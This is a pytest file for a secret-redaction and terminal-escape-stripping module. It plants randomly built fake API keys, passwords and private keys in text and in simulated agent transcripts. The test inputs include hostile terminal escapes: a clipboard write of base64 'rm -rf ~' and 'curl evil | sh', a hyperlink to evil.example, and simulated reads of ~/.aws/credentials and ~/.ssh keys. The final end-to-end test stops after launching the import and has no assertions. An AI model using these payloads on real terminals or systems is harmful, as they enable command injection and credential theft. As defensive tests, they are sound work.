"""Secret scrubbing and terminal-control stripping (memtui.core.redact).

Every fake secret below is assembled at run time from pieces (`_tok`), so that no file of this
repository holds a string that a secret scanner would flag, and so that each run checks fresh
random bodies rather than one lucky sample.
"""

from __future__ import annotations

import base64
import json
import random
import sqlite3
import string
import subprocess
import sys
import time
from pathlib import Path

import pytest

from memtui.core.redact import KNOWN_KINDS, clean, find_secrets, redact, strip_control
from tests.helpers import write_jsonl

_rng = random.Random(20260515)
ALNUM = string.ascii_letters + string.digits
URLSAFE = ALNUM + "-_"
UPPER = string.ascii_uppercase + string.digits


def _tok(alphabet: str, n: int) -> str:
    """A random body that surely mixes letters and digits (as real tokens do)."""
    mixed = any(c.isdigit() for c in alphabet) and any(c.isalpha() for c in alphabet)
    while True:
        body = "".join(_rng.choice(alphabet) for _ in range(n))
        if not mixed or (any(c.isdigit() for c in body) and any(c.isalpha() for c in body)):
            return body


def _pem(label: str, nbytes: int = 900, headers: str = "") -> str:
    body = base64.b64encode(_rng.randbytes(nbytes)).decode()
    lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    return f"-----BEGIN {label}-----\n{headers}{lines}\n-----END {label}-----"


def secrets() -> dict[str, tuple[str, str]]:
    """name -> (secret, expected kind). Realistic shapes of each provider's tokens."""
    return {
        "anthropic": ("sk-" + "ant-api03-" + _tok(URLSAFE, 93) + "AA", "anthropic_key"),
        "anthropic_admin": ("sk-" + "ant-admin01-" + _tok(URLSAFE, 93) + "AA", "anthropic_key"),
        "openai_project": ("sk-" + "proj-" + _tok(URLSAFE, 156), "openai_key"),
        "openai_svcacct": ("sk-" + "svcacct-" + _tok(URLSAFE, 74), "openai_key"),
        "openai_legacy": ("sk-" + _tok(ALNUM, 20) + "T3Blbk" + "FJ" + _tok(ALNUM, 20), "openai_key"),
        "github_pat": ("gh" + "p_" + _tok(ALNUM, 36), "github_token"),
        "github_oauth": ("gh" + "o_" + _tok(ALNUM, 36), "github_token"),
        "github_server": ("gh" + "s_" + _tok(ALNUM, 36), "github_token"),
        "github_fine": ("github" + "_pat_" + _tok(ALNUM, 22) + "_" + _tok(ALNUM, 59), "github_token"),
        "gitlab": ("gl" + "pat-" + _tok(URLSAFE, 20), "gitlab_token"),
        "aws_key_id": ("AK" + "IA" + _tok(UPPER, 16), "aws_access_key"),
        "aws_sts_id": ("AS" + "IA" + _tok(UPPER, 16), "aws_access_key"),
        "slack_bot": ("xo" + "xb-" + _tok(string.digits, 12) + "-" + _tok(string.digits, 13) + "-" + _tok(ALNUM, 24), "slack_token"),
        "slack_user": ("xo" + "xp-" + _tok(string.digits, 12) + "-" + _tok(string.digits, 12) + "-" + _tok(string.digits, 13) + "-" + _tok("abcdef0123456789", 32), "slack_token"),
        "google_key": ("AI" + "za" + _tok(URLSAFE, 35), "google_api_key"),
        "google_oauth": ("ya" + "29." + _tok(URLSAFE, 120), "google_oauth"),
        "google_client_secret": ("GOC" + "SPX-" + _tok(URLSAFE, 28), "google_oauth"),
        "stripe_live": ("sk" + "_live_" + _tok(ALNUM, 99), "stripe_key"),
        "stripe_restricted": ("rk" + "_live_" + _tok(ALNUM, 99), "stripe_key"),
        "stripe_test": ("sk" + "_test_" + _tok(ALNUM, 24), "stripe_key"),
        "stripe_webhook": ("wh" + "sec_" + _tok(ALNUM, 32), "stripe_key"),
        "huggingface": ("h" + "f_" + _tok(ALNUM, 34), "huggingface_token"),
        "npm": ("np" + "m_" + _tok(ALNUM, 36), "npm_token"),
        "pypi": ("py" + "pi-AgEIcHlwaS5vcmc" + _tok(URLSAFE, 70), "pypi_token"),
        "sendgrid": ("S" + "G." + _tok(URLSAFE, 22) + "." + _tok(URLSAFE, 43), "sendgrid_key"),
        "jwt": (
            "ey" + "JhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
            + base64.urlsafe_b64encode(json.dumps({"sub": _tok(ALNUM, 12), "exp": 1900000000}).encode()).decode().rstrip("=")
            + "." + _tok(URLSAFE, 43),
            "jwt",
        ),
    }


# --- provider tokens ----------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(secrets()))
@pytest.mark.parametrize(
    "context",
    [
        "{}",
        "the key is {} ok",
        "KEY='{}'",
        '"{}"',
        "{{\"token\":\"{}\"}}",
        "`{}`",
        "({}),",
        "line one\n{}\nline three",
    ],
)
def test_provider_tokens_are_redacted_with_their_kind(name, context):
    secret, kind = secrets()[name]
    out = redact(context.format(secret))
    assert secret not in out
    assert secret[8:24] not in out  # not even a piece of it
    assert f"[REDACTED:{kind}]" in out or "[REDACTED:" in out and context.startswith("{\"token")
    assert kind in KNOWN_KINDS


def test_provider_kind_wins_over_the_generic_assignment():
    gh = "gh" + "p_" + _tok(ALNUM, 36)
    assert redact(f"export GITHUB_TOKEN={gh}") == "export GITHUB_TOKEN=[REDACTED:github_token]"
    ant = "sk-" + "ant-api03-" + _tok(URLSAFE, 93) + "AA"
    assert redact(f'ANTHROPIC_API_KEY="{ant}"') == 'ANTHROPIC_API_KEY="[REDACTED:anthropic_key]"'


def test_bearer_and_basic_authorization():
    token = _tok(URLSAFE + ".~+/", 48)
    out = redact(f'curl -H "Authorization: Bearer {token}" https://api.example.com')
    assert out == 'curl -H "Authorization: Bearer [REDACTED:bearer]" https://api.example.com'
    assert token not in redact(f"authorization: bearer {token}")
    basic = base64.b64encode(b"deploy:" + _tok(ALNUM, 16).encode()).decode()
    assert redact(f"Authorization: Basic {basic}") == "Authorization: Basic [REDACTED:basic_auth]"
    assert basic not in redact(f'headers = {{"Authorization": "Basic {basic}"}}')


@pytest.mark.parametrize(
    "url, kept",
    [
        ("postgres://app:{pw}@db.internal:5432/prod", "postgres://app:[REDACTED:url_password]@db.internal:5432/prod"),
        ("postgresql+psycopg://app:{pw}@localhost/x", "postgresql+psycopg://app:[REDACTED:url_password]@localhost/x"),
        ("mysql://root:{pw}@127.0.0.1:3306/shop", "mysql://root:[REDACTED:url_password]@127.0.0.1:3306/shop"),
        ("redis://:{pw}@cache:6379/0", "redis://:[REDACTED:url_password]@cache:6379/0"),
        ("rediss://default:{pw}@x.upstash.io:6379", "rediss://default:[REDACTED:url_password]@x.upstash.io:6379"),
        ("https://deploy:{pw}@git.example.com/repo.git", "https://deploy:[REDACTED:url_password]@git.example.com/repo.git"),
        ("mongodb+srv://u:{pw}@cluster0.ab1cd.mongodb.net/db", "mongodb+srv://u:[REDACTED:url_password]@cluster0.ab1cd.mongodb.net/db"),
        ("amqp://guest:{pw}@rabbit:5672/", "amqp://guest:[REDACTED:url_password]@rabbit:5672/"),
    ],
)
def test_passwords_in_urls(url, kept):
    pw = "p4ss" + _tok(ALNUM, 10) + "!"
    assert redact(url.format(pw=pw)) == kept
    assert redact(f'DATABASE_URL="{url.format(pw=pw)}"') == f'DATABASE_URL="{kept}"'


def test_url_password_with_at_sign_goes_whole():
    out = redact("postgres://app:p@ss@w0rd@db/x")
    assert out == "postgres://app:[REDACTED:url_password]@db/x"


def test_webhooks():
    slack = "https://hooks.slack.com/services/T" + _tok(UPPER, 8) + "/B" + _tok(UPPER, 10) + "/" + _tok(ALNUM, 24)
    assert redact(f"curl -X POST {slack}") == "curl -X POST https://[REDACTED:slack_webhook]"
    discord = "https://discord.com/api/webhooks/" + _tok(string.digits, 18) + "/" + _tok(URLSAFE, 68)
    assert "[REDACTED:discord_webhook]" in redact(discord)


@pytest.mark.parametrize(
    "label, headers",
    [
        ("RSA PRIVATE KEY", ""),
        ("RSA PRIVATE KEY", "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,5E7A3B1C9D2F4A6B8C0D1E2F3A4B5C6D\n\n"),
        ("OPENSSH PRIVATE KEY", ""),
        ("EC PRIVATE KEY", ""),
        ("PRIVATE KEY", ""),
        ("ENCRYPTED PRIVATE KEY", ""),
        ("DSA PRIVATE KEY", ""),
        ("PGP PRIVATE KEY BLOCK", "Version: GnuPG v2\n\n"),
    ],
)
def test_private_key_blocks(label, headers):
    key = _pem(label, headers=headers)
    body_line = key.splitlines()[-2]
    for text in (f"here:\n{key}\nthanks", json.dumps({"file_path": "id_rsa", "content": key + "\n"})):
        out = redact(text)
        assert "[REDACTED:private_key]" in out
        assert body_line not in out and "BEGIN" not in out
    assert redact(f"here:\n{key}\nthanks") == "here:\n[REDACTED:private_key]\nthanks"


def test_private_key_cut_off_at_either_end():
    key = _pem("RSA PRIVATE KEY", 1200)
    lines = key.splitlines()
    head_only = "\n".join(lines[:8]) + "\n"  # END line never came (a shortened text)
    out = redact("cat key.pem\n" + head_only)
    assert out.startswith("cat key.pem\n[REDACTED:private_key]") and lines[3] not in out
    tail_only = "…cut…\n" + "\n".join(lines[9:])  # BEGIN line was cut away
    out = redact(tail_only)
    assert out == "…cut…\n[REDACTED:private_key]"


def test_mentions_of_key_headers_are_not_keys():
    code = 'if line.startswith("-----BEGIN RSA PRIVATE KEY-----"):\n    footer = "-----END RSA PRIVATE KEY-----"'
    assert redact(code) == code
    assert redact("-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n-----END PUBLIC KEY-----").startswith(
        "-----BEGIN PUBLIC KEY-----"
    )


# --- assignments --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, expected",
    [
        # .env and shell
        ("DB_PASSWORD=hunter2hunter2", "DB_PASSWORD=[REDACTED:password]"),
        ("DB_PASS=correcthorse", "DB_PASS=[REDACTED:password]"),
        ("export SECRET_KEY=django-insecure-8f#k2", "export SECRET_KEY=[REDACTED:secret]"),
        ('export DB_PASSWORD="two words!"', 'export DB_PASSWORD="[REDACTED:password]"'),
        ("API_TOKEN='abc123def456'", "API_TOKEN='[REDACTED:token]'"),
        ("JWT_SECRET=supersecretvalue", "JWT_SECRET=[REDACTED:secret]"),
        ("PGPASSWORD=s3cret psql -h db", "PGPASSWORD=[REDACTED:password] psql -h db"),
        ("MY_SERVICE_KEY=3f9a1c77e0b24d56a8e1", "MY_SERVICE_KEY=[REDACTED:secret]"),
        ("OPENAI_API_KEY=abc123notarealformat", "OPENAI_API_KEY=[REDACTED:api_key]"),
        ("SECRET=dGVzdHNlY3JldA==", "SECRET=[REDACTED:secret]"),
        # AWS credentials file / env
        (
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "aws_secret_access_key = [REDACTED:aws_secret_key]",
        ),
        (
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            "AWS_SECRET_ACCESS_KEY=[REDACTED:aws_secret_key]",
        ),
        # JSON, YAML, INI, code
        ('{"password": "s3cr3t!"}', '{"password": "[REDACTED:password]"}'),
        ('{"apiKey":"abcdef123456"}', '{"apiKey":"[REDACTED:api_key]"}'),
        ('{"client_secret": "9Xk2LmQp"}', '{"client_secret": "[REDACTED:secret]"}'),
        ('{\\"password\\": \\"s3cr3t!\\"}', '{\\"password\\": \\"[REDACTED:password]\\"}'),
        ("password: hunter2", "password: [REDACTED:password]"),
        ("  password: mypassword", "  password: [REDACTED:password]"),
        ("POSTGRES_PASSWORD: example", "POSTGRES_PASSWORD: [REDACTED:password]"),
        ("auth_token: 'abc-123-def'", "auth_token: '[REDACTED:token]'"),
        ("password = hunter2", "password = [REDACTED:password]"),
        ('db_password = "hunter2"', 'db_password = "[REDACTED:password]"'),
        ('password: str = "hunter2"', 'password: str = "[REDACTED:password]"'),
        ("client.login(password='Tr0ub4dor')", "client.login(password='[REDACTED:password]')"),
        ("login(token=abc123xyz)", "login(token=[REDACTED:token])"),
        ("https://api.example.com/v1?access_token=abc123xyz&x=1", "https://api.example.com/v1?access_token=[REDACTED:token]&x=1"),
        ("-H 'X-Api-Key: abcdefghijklmnop'", "-H 'X-Api-Key: [REDACTED:api_key]'"),
        ("mysql --password=hunter2 -u root", "mysql --password=[REDACTED:password] -u root"),
        ("tool login --token abc123def456", "tool login --token [REDACTED:token]"),
        ("spring.datasource.password=s3cr3t", "spring.datasource.password=[REDACTED:password]"),
    ],
)
def test_assignments(text, expected):
    assert redact(text) == expected


def test_env_file_written_by_an_edit_tool_is_scrubbed_line_by_line():
    env = "DEBUG=true\nDB_PASSWORD=hunter2hunter2\nexport STRIPE_SECRET=whatever123\nPORT=8000\n"
    stored = json.dumps({"file_path": "/app/.env", "content": env})  # tool inputs are stored as JSON
    out = redact(stored)
    assert "hunter2" not in out and "whatever123" not in out
    assert "DEBUG=true" in out and "PORT=8000" in out
    assert "DB_PASSWORD=[REDACTED:password]\\nexport STRIPE_SECRET=[REDACTED:secret]\\nPORT" in out


# --- what must survive ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "token = get_token()",
        "password: str",
        "password: Optional[str] = None",
        "PASSWORD: str",
        "    token: Token",
        "def login(username: str, password: str) -> Token:",
        'API_KEY=os.environ["API_KEY"]',
        "api_key = os.environ.get('OPENAI_API_KEY')",
        "SECRET_KEY = os.getenv('SECRET_KEY', None)",
        "TOKEN=${TOKEN}",
        "export GITHUB_TOKEN=$GH_TOKEN",
        "TOKEN=$(gh auth token)",
        "token: ${{ secrets.GITHUB_TOKEN }}",
        "password: <your-password>",
        'password = "********"',
        "password=password",
        "connect(host=host, password=db_password)",
        "self.token = token",
        "api_key = settings.OPENAI_API_KEY",
        "const apiKey = process.env.API_KEY;",
        "if token == 'abc':",
        "max_tokens=4096",
        '"input_tokens": 10, "output_tokens": 2',
        "tokens: 1500",
        "token_count = 12",
        "tokenizer = AutoTokenizer.from_pretrained('gpt2')",
        "keyboard: us",
        "secretary: Jane",
        "token_url = 'https://oauth2.googleapis.com/token'",
        "secret_name: my-db-secret",
        "password_field = form.fields['password']",
        "passenger_count = 4",
        "bypass = true",
        "PWD=/home/user/project",
        "key = 'name'",
        "sort_key: created_at",
        "CACHE_KEY=users",
        "headers['Authorization'] = f'Bearer {token}'",
        'curl -H "Authorization: Bearer $TOKEN" https://api.github.com/user',
        "Use a Bearer token in the Authorization header.",
        "Basic usage of the library is simple.",
        "git clone git@github.com:octocat/hello-world.git",
        "see https://github.com/octocat/hello-world/blob/main/README.md",
        "http://localhost:8080/health",
        "postgres://app:${DB_PASSWORD}@db/prod",
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8 fixes it",
        "id 123e4567-e89b-12d3-a456-426614174000",
        "sk-learn is not a package name; task-force, desk-lamp",
        "GitHub tokens start with ghp_ and gitlab ones with glpat-",
        "[bold red]x[/] [link=https://example.com]click[/link]",
        "The auth module talks to Redis.",
    ],
)
def test_ordinary_code_survives(text):
    assert redact(text) == text
    assert clean(text) == text


def test_base64_data_that_is_not_a_secret_survives():
    png = base64.b64encode(_rng.randbytes(3000)).decode()
    text = f'<img src="data:image/png;base64,{png}"> and a sha256 {_tok("0123456789abcdef", 64)}'
    assert redact(text) == text


def test_idempotent_and_marker_not_redacted_again():
    text = f"DB_PASSWORD=hunter2hunter2 and {'gh' + 'p_' + _tok(ALNUM, 36)}"
    once = redact(text)
    assert redact(once) == once


def test_find_secrets_spans_do_not_overlap():
    text = f"A={'AK' + 'IA' + _tok(UPPER, 16)} password: hunter2 https://u:{_tok(ALNUM, 12)}@h/x"
    spans = find_secrets(text)
    assert [k for _, _, k in spans] == ["aws_access_key", "password", "url_password"]
    assert all(a[1] <= b[0] for a, b in zip(spans, spans[1:]))


def test_non_ascii_text_is_scrubbed_too():
    secret = "gh" + "p_" + _tok(ALNUM, 36)
    text = f"幫我設定 GITHUB_TOKEN={secret} 然後 密碼 password: hunter2 ✅ 🚀"
    out = redact(text)
    assert secret not in out and "hunter2" not in out
    assert out == "幫我設定 GITHUB_TOKEN=[REDACTED:github_token] 然後 密碼 password: [REDACTED:password] ✅ 🚀"


# --- terminal control ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw, expected",
    [
        ("\x1b[31mred\x1b[0m plain", "red plain"),
        ("\x1b[1;38;5;196mbold\x1b[22m", "bold"),
        ("\x1b[2J\x1b[H\x1b[?25lcleared", "cleared"),
        ("\x1b]0;pwned title\x07after", "after"),
        ("\x1b]2;title\x1b\\after", "after"),
        ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ here", "click here"),
        ("\x1b]52;c;" + base64.b64encode(b"rm -rf ~").decode() + "\x07copied", "copied"),
        ("\x1bP+q544e\x1b\\dcs", "dcs"),
        ("\x1bPq#0;2;0;0;0#0~~@@vv\x1b\\sixel", "sixel"),
        ("\x9b31mC1 csi\x9b0m", "C1 csi"),
        ("\x9d0;t\x9cC1 osc", "C1 osc"),
        ("lone \x1b escape", "lone  escape"),
        ("bell\x07 back\x08\x08space nul\x00 del\x7f", "bell backspace nul del"),
        ("password: hunter2\rpassword: *******", "password: hunter2\npassword: *******"),
        ("progress 10%\r20%\r100%\r\n", "progress 10%\n20%\n100%\n"),
        ("windows\r\nlines\r\n", "windows\nlines\n"),
        ("tabs\tand\nnewlines stay", "tabs\tand\nnewlines stay"),
        ("\x1b(B\x1b=\x1b>\x1bc\x1b7\x1b8charset", "charset"),
        ("unterminated \x1b]0;title\nnext line", "unterminated \nnext line"),
        ("unterminated dcs \x1bP+q544e\nnext line", "unterminated dcs \nnext line"),
        ("[bold red]x[/] stays [link=https://x]y[/link]", "[bold red]x[/] stays [link=https://x]y[/link]"),
        ("emoji ✅ and 中文 stay", "emoji ✅ and 中文 stay"),
    ],
)
def test_strip_control(raw, expected):
    assert strip_control(raw) == expected
    assert strip_control(expected) == expected


def test_clean_strips_escapes_hiding_inside_a_secret():
    secret = "gh" + "p_" + _tok(ALNUM, 36)
    broken = secret[:10] + "\x1b[0m" + secret[10:]  # an escape must not shield a token
    assert clean(f"token {broken}") == "token [REDACTED:github_token]"


def test_no_control_characters_survive_clean():
    raw = "".join(chr(c) for c in range(0, 0xA0)) + "\x1b[31m" + "\x1b]8;;u\x07"
    out = clean(raw)
    assert all(c in "\t\n" or 0x20 <= ord(c) < 0x7F for c in out), repr(out)


# --- speed --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "token" * 40_000,
        "token=" * 40_000,
        "password: abc123\n" * 10_000,
        "-----BEGIN RSA PRIVATE KEY-----" * 7_000,
        "-----END RSA PRIVATE KEY-----\n" * 7_000,
        "-----BEGIN RSA PRIVATE KEY-----\n" + ("A" * 64 + "\n") * 3_000,
        "://" * 70_000,
        "a://u:" + "p" * 200_000,
        "sk-" * 70_000,
        "Bearer " * 30_000,
        "--password " * 20_000,
        "\x1b" * 200_000,
        "\x1bP" * 100_000,
        "\r" * 200_000,
        'password="' + "a" * 200_000,
    ],
    ids=lambda t: repr(t[:12]),
)
def test_pathological_input_stays_linear(text):
    """A hang guard, not a speed target: a backtracking pattern takes minutes to hours on these
    200,000-character inputs, a linear one milliseconds (the speed itself: tests/perf/bench_redact.py)."""
    started = time.process_time()
    clean(text)
    assert time.process_time() - started < 10.0


# --- end to end: plant every kind, import with the real command line, read the raw bytes ------

# The escape sequences planted below, as bytes (single control bytes occur in any binary file).
ESC_BYTES = (
    b"\x1b[31m", b"\x1b[0m", b"\x1b[1;32m", b"\x1b[2K", b"\x1b[33m", b"\x1b]0;", b"\x1b]8;;", b"\x1b]52;",
    b"\x1bP+q", b"\xc2\x9b31m", b"pwned title", b"curl evil",
    base64.b64encode(b"curl evil | sh"),
)


def _planted() -> dict[str, tuple[str, str]]:
    """Every secret planted by the end-to-end test: name -> (secret value, kind of its marker)."""
    planted = dict(secrets())
    pw = lambda: "Pw-" + _tok(ALNUM, 14)  # noqa: E731  (distinctive, so a leak is unambiguous)
    planted.update(
        {
            "bearer": (_tok(URLSAFE, 40), "bearer"),
            "basic": (base64.b64encode(b"deploy:" + _tok(ALNUM, 18).encode()).decode(), "basic_auth"),
            "url_postgres": (pw(), "url_password"),
            "url_mysql": (pw(), "url_password"),
            "url_redis": (pw(), "url_password"),
            "url_https": (pw(), "url_password"),
            "env_password": (pw(), "password"),
            "env_quoted": (pw() + " with spaces", "password"),
            "env_export": (_tok(ALNUM, 24), "secret"),
            "json_password": (pw(), "password"),
            "yaml_password": (pw(), "password"),
            "aws_secret": (_tok(ALNUM + "/+", 40), "aws_secret_key"),
            "slack_webhook": (
                "hooks.slack.com/services/T" + _tok(UPPER, 8) + "/B" + _tok(UPPER, 10) + "/" + _tok(ALNUM, 24),
                "slack_webhook",
            ),
            "pem_rsa": (_pem("RSA PRIVATE KEY"), "private_key"),
            "pem_openssh": (_pem("OPENSSH PRIVATE KEY"), "private_key"),
            "pem_ec": (_pem("EC PRIVATE KEY", 120), "private_key"),
            "pem_encrypted": (_pem("ENCRYPTED PRIVATE KEY"), "private_key"),
            "cut_head": ("gh" + "p_" + _tok(ALNUM, 36), "github_token"),
            "cut_tail": ("gl" + "pat-" + _tok(URLSAFE, 20), "gitlab_token"),
            "cut_pem": (_pem("RSA PRIVATE KEY", 1200), "private_key"),
            "cwd": ("sk-" + "proj-" + _tok(URLSAFE, 40), "openai_key"),
            "branch": ("AK" + "IA" + _tok(UPPER, 16), "aws_access_key"),
            "title": ("gh" + "s_" + _tok(ALNUM, 36), "github_token"),
            "codex_remote": ("gh" + "o_" + _tok(ALNUM, 36), "github_token"),
            "codex_user": ("sk-" + "ant-api03-" + _tok(URLSAFE, 93) + "AA", "anthropic_key"),
            "codex_shell": (pw(), "password"),
            "codex_output": ("xo" + "xb-" + _tok(string.digits, 12) + "-" + _tok(ALNUM, 24), "slack_token"),
            "codex_agent": ("AI" + "za" + _tok(URLSAFE, 35), "google_api_key"),
        }
    )
    return planted


def _pieces(secret: str) -> list[str]:
    """Distinctive pieces of a secret that must not survive either (any 16 characters of it)."""
    if "PRIVATE KEY" in secret:
        lines = [ln for ln in secret.splitlines() if "-----" not in ln and len(ln) >= 16]
        return [secret] + lines
    step = 16
    return [secret] + [secret[i : i + step] for i in range(0, max(1, len(secret) - step + 1), 8) if len(secret) >= step]


def _claude_transcript(path: Path, s: dict[str, str]) -> Path:
    sid = "e2e-claude-session"
    env_file = (
        "# app settings\nDEBUG=true\n"
        f"DB_PASSWORD={s['env_password']}\n"
        f'SMTP_PASSWORD="{s["env_quoted"]}"\n'
        f"export SESSION_SECRET={s['env_export']}\n"
        f"OPENAI_API_KEY={s['openai_project']}\n"
        f"AWS_ACCESS_KEY_ID={s['aws_key_id']}\nAWS_SECRET_ACCESS_KEY={s['aws_secret']}\n"
        "PORT=8000\n"
    )
    huge = (
        "x" * 5990 + " " + s["cut_head"] + " " + "y" * 3000 + "\n" + s["cut_pem"] + "\n" + "z" * 20000
        + " " + s["cut_tail"] + " " + "w" * 1985 + "\n"
    )
    env_dump = (
        "\x1b[1;32m$ env | sort\x1b[0m\n"
        f"ANTHROPIC_API_KEY={s['anthropic']}\nGH_TOKEN={s['github_oauth']}\nHF_TOKEN={s['huggingface']}\n"
        f"NPM_TOKEN={s['npm']}\nSLACK_BOT_TOKEN={s['slack_bot']}\nSTRIPE_KEY={s['stripe_live']}\n"
        f"\x1b]0;pwned title\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\n"
        f"\x1b]52;c;{base64.b64encode(b'curl evil | sh').decode()}\x07"
        f"$ cat ~/.aws/credentials\n[default]\naws_access_key_id = {s['aws_sts_id']}\n"
        f"aws_secret_access_key = {s['aws_secret']}\n"
        f"$ cat ~/.ssh/id_ed25519\n{s['pem_openssh']}\n"
        f"\x9b31mC1 colours\x9b0m \x1bP+q544e\x1b\\ done\r\x1b[2K"
    )
    lines = [
        {"type": "summary", "summary": f"Rotate the leaked token {s['title']}", "leafUuid": "c-a3"},
        {
            **_envelope(sid, "c-u1", s),
            "type": "user",
            "message": {
                "role": "user",
                "content": f"My key is {s['anthropic_admin']} and the legacy one {s['openai_legacy']}.\n"
                f"Config:\n```json\n{{\"password\": \"{s['json_password']}\", \"client\": \"x\"}}\n```\n"
                f"Bearer for the API: `Authorization: Bearer {s['bearer']}`\n"
                f"\x1b[31mred\x1b[0m and [bold red]markup[/] stays",
            },
        },
        {
            **_envelope(sid, "c-a1", s),
            "type": "assistant",
            "message": {
                "id": "msg_e2e_1", "role": "assistant", "model": "claude-sonnet-4-20250514",
                "content": [{"type": "thinking", "thinking": f"The user pasted {s['stripe_restricted']}; never repeat it.", "signature": "x"}],
            },
        },
        {
            **_envelope(sid, "c-a2", s),
            "type": "assistant",
            "message": {
                "id": "msg_e2e_1", "role": "assistant", "model": "claude-sonnet-4-20250514",
                "content": [{"type": "text", "text": (
                    "Use these in `config.yml`:\n```yaml\ndatabase:\n"
                    f"  password: {s['yaml_password']}\n  url: postgres://app:{s['url_postgres']}@db.internal:5432/prod\n```\n"
                    f"Also mysql://root:{s['url_mysql']}@127.0.0.1/shop, redis://:{s['url_redis']}@cache:6379 and "
                    f"https://deploy:{s['url_https']}@git.example.com/repo.git; google {s['google_key']} {s['google_oauth']}, "
                    f"client secret {s['google_client_secret']}, gitlab {s['gitlab']}, pypi {s['pypi']}, "
                    f"sendgrid {s['sendgrid']}, stripe {s['stripe_test']} {s['stripe_webhook']}, jwt {s['jwt']}, "
                    f"slack user {s['slack_user']}, webhook https://{s['slack_webhook']}, "
                    f"github {s['github_pat']} {s['github_server']} {s['github_fine']}, openai {s['openai_svcacct']}, "
                    f"basic: Authorization: Basic {s['basic']}\n\x1b]0;title\x07done"
                )}],
            },
        },
        {
            **_envelope(sid, "c-a3", s),
            "type": "assistant",
            "message": {
                "id": "msg_e2e_2", "role": "assistant", "model": "claude-sonnet-4-20250514",
                "content": [{"type": "tool_use", "id": "toolu_bash", "name": "Bash", "input": {
                    "command": f"export GITHUB_TOKEN={s['github_pat']} && PGPASSWORD={s['env_password']} "
                    f"psql -h db -c 'select 1' && curl -H \"Authorization: Bearer {s['bearer']}\" "
                    f"https://deploy:{s['url_https']}@git.example.com/x",
                    "description": "check access",
                }}],
            },
        },
        {
            **_envelope(sid, "c-a4", s),
            "type": "assistant",
            "message": {
                "id": "msg_e2e_3", "role": "assistant", "model": "claude-sonnet-4-20250514",
                "content": [{"type": "tool_use", "id": "toolu_edit", "name": "Edit", "input": {
                    "file_path": "/home/dev/project/.env", "old_string": "DEBUG=true\n", "new_string": env_file,
                }}],
            },
        },
        {
            **_envelope(sid, "c-a5", s),
            "type": "assistant",
            "message": {
                "id": "msg_e2e_4", "role": "assistant", "model": "claude-sonnet-4-20250514",
                "content": [{"type": "tool_use", "id": "toolu_write", "name": "Write", "input": {
                    "file_path": "/home/dev/.ssh/deploy_key", "content": s["pem_rsa"] + "\n" + s["pem_ec"] + "\n",
                }}],
            },
        },
        {
            **_envelope(sid, "c-u2", s),
            "type": "user",
            "message": {"role": "user", "content": [
                {"type": "tool_result", "tool_use_id": "toolu_bash", "content": env_dump},
                {"type": "tool_result", "tool_use_id": "toolu_edit", "content": [{"type": "text", "text": huge}]},
                {"type": "tool_result", "tool_use_id": "toolu_write", "content": f"wrote key\n{s['pem_encrypted']}"},
            ]},
        },
    ]
    return write_jsonl(path, lines)


def _envelope(sid: str, uuid: str, s: dict[str, str]) -> dict:
    return {
        "parentUuid": None,
        "isSidechain": False,
        "userType": "external",
        "cwd": f"/home/dev/{s['cwd']}/project",
        "sessionId": sid,
        "version": "2.0.24",
        "gitBranch": f"fix/{s['branch']}",
        "uuid": uuid,
        "timestamp": "2025-06-01T12:00:00.000Z",
    }


def _codex_rollout(path: Path, s: dict[str, str]) -> Path:
    ts = "2025-11-22T20:45:35.610Z"
    env = lambda type_, payload: {"timestamp": ts, "type": type_, "payload": payload}  # noqa: E731
    lines = [
        env("session_meta", {
            "id": "019aad50-0000-7000-8000-00000000e2e0", "timestamp": ts, "cwd": "/home/dev/codex-project",
            "originator": "codex_cli_rs", "cli_version": "0.60.1", "instructions": None,
            "git": {"commit_hash": "87d292ac", "branch": "main",
                    "repository_url": f"https://x-access-token:{s['codex_remote']}@github.com/org/repo.git"},
        }),
        env("turn_context", {"cwd": "/home/dev/codex-project", "model": "gpt-5.1-codex-max"}),
        env("response_item", {"type": "message", "role": "user", "content": [
            {"type": "input_text", "text": f"deploy with key {s['codex_user']} please"}]}),
        env("event_msg", {"type": "user_message", "message": f"deploy with key {s['codex_user']} please", "images": []}),
        env("response_item", {"type": "function_call", "name": "shell_command", "call_id": "call_e2e1",
                              "arguments": json.dumps({"command": f"PGPASSWORD={s['codex_shell']} pg_dump prod", "workdir": "."})}),
        env("response_item", {"type": "function_call_output", "call_id": "call_e2e1",
                              "output": f"Exit code: 0\nOutput:\n\x1b[33mtoken\x1b[0m {s['codex_output']}\n"}),
        env("response_item", {"type": "message", "role": "assistant", "content": [
            {"type": "output_text", "text": f"Done; the maps key {s['codex_agent']} is in the config."}]}),
        env("event_msg", {"type": "agent_message", "message": f"Done; the maps key {s['codex_agent']} is in the config."}),
    ]
    return write_jsonl(path, lines)


def test_no_planted_secret_reaches_the_database_file(tmp_path):
    """Plant every kind of secret where a transcript can carry it (user and assistant text,
    thinking, tool inputs, tool outputs, a shortened huge output, cwd, branch, title, a Codex
    git remote), import with the real command line, then read the raw bytes of the database."""
    planted = _planted()
    s = {name: value for name, (value, _) in planted.items()}
    files = [_claude_transcript(tmp_path / "claude" / "e2e.jsonl", s)]
    try:
        import memtui.core.importers.codex  # noqa: F401  (written by another helper; optional here)

        files.append(_codex_rollout(tmp_path / "codex" / "rollout-2025-11-22T20-45-35-e2e.jsonl", s))
        codex = True
    except ImportError:
        codex = False
    for f in files:  # the plants are really in the input
        raw = f.read_bytes()
        assert any(s[name].encode() in raw or json.dumps(s[name])[1:-1].encode() in raw for name in s)
    db = tmp_path / "e2e.db"

    proc = subprocess.run(
        [sys.executable, "-m", "memtui", "--db", str(db), "import", *map(str, files)],
        capture_output=True, text=True, timeout=300,
    )

